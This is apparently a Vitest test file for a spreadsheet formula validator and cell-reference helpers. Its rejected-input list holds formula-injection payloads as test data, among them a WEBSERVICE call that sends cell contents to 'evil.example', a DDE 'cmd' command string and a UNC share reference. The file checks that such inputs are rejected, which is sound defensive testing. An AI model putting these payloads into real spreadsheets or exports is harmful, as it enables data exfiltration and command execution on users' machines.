import { expect, test } from "vitest";
import { cellPlace, columnName, formulaProblem } from "./sheet-formula.ts";

test.each(["SUM(A1:A3)", 'IF(B2>0,"a [b] |",ROUND(B2/3,2))', "'My sheet'!A1*2", "-A1", "1+1", 'IFERROR(VLOOKUP(A1,B:C,2,FALSE),"")'])(
  "%s may be written",
  (formula) => {
    expect(formulaProblem(formula)).toBeNull();
  },
);

test.each([
  'WEBSERVICE("https://evil.example/?"&A1)',
  'HYPERLINK("x","y")',
  "cmd|'/c calc'!A1",
  "[other.xlsx]a!A1",
  "'[other.xlsx]a'!A1",
  "'\\\\host\\share'!A1",
  'sum("',
  "INDIRECT(A1)",
  "_xlfn.IMAGE(A1)",
  "SUM (WEBSERVICE (A1))",
  "",
  " ",
  "{1,2}",
  "1\n2",
  "1".repeat(2_001),
])("%s may not", (formula) => {
  expect(formulaProblem(formula)).not.toBeNull();
});

test("columns are named as spreadsheets name them, and places read back", () => {
  expect([1, 26, 27, 702, 703, 16_384].map(columnName)).toEqual(["A", "Z", "AA", "ZZ", "AAA", "XFD"]);
  for (const column of [1, 26, 27, 52, 53, 702, 703, 16_384]) expect(cellPlace(`${columnName(column)}7`)).toEqual({ column, row: 7 });
  for (const bad of ["XFE1", "A0", "A1048577", "a1", "A", "1", "$A$1", ""]) expect(cellPlace(bad)).toBeUndefined();
});
